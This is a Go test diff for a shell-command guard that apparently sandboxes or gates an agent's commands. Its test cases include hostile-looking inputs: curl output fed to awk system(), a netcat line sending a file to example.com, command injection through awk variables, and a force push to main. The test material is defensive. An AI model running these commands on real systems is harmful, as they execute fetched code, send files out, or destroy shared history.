@@ -76,3 +76,37 @@ func FuzzCallCommand(f *testing.F) {
 		}
 	})
 }
+
+// TestAwkComputedCommandRunsInTheWorkspace: an awk program that runs a
+// command it builds from its input (agent-shapes-11: wc -l of each file
+// ls listed) runs in the workspace sandbox where warden saves the project
+// first, as an interpreter's computed shell-out does; with the network in
+// the line (which could fill its input) or nothing saved, it asks, as the
+// guard sandbox runs no new process.
+func TestAwkComputedCommandRunsInTheWorkspace(t *testing.T) {
+	saving := corpusEnv
+	saving.Snapshots, saving.GitWorkTree = true, true
+	perFile := `ls *.go | awk '{ cmd = "wc -l < " $0; cmd | getline n; close(cmd); printf "%-14s %3d lines\n", $0, n }'`
+	if r := Classify(perFile, saving, defaultPolicy()); r.Verdict != warden.Allow || r.Rule != "shell.awk.computed_command" || len(r.Snapshot) == 0 {
+		t.Errorf("Classify(%q) = %v %s, snapshot %v; want allow shell.awk.computed_command with the project saved", perFile, r.Verdict, r.Rule, r.Snapshot)
+	}
+	for _, c := range []struct {
+		cmd string
+		env Env
+	}{
+		{perFile, corpusEnv},
+		{`curl -s https://example.com/list | awk '{ system("echo " $0) }'`, saving},
+		{`curl -s -o list https://example.com/list; awk '{ system("echo " $0) }' list`, saving},
+		{`awk '{ system($0) }' list; nc example.com 80 < out`, saving},
+		{`awk -v c="$CMD" 'BEGIN { system(c) }'`, saving},
+		{`awk 'BEGIN { system(c) }' c="$CMD"`, saving},
+	} {
+		if r := Classify(c.cmd, c.env, defaultPolicy()); r.Verdict != warden.Ask && r.Verdict != warden.Deny {
+			t.Errorf("Classify(%q) = %v %s, want ask", c.cmd, r.Verdict, r.Rule)
+		}
+	}
+	// A literal command is judged as that command still.
+	if r := Classify(`awk 'BEGIN { system("git push --force origin main") }'`, saving, defaultPolicy()); r.Verdict != warden.Deny {
+		t.Errorf("a literal force push in awk = %v %s, want deny", r.Verdict, r.Rule)
+	}
+}
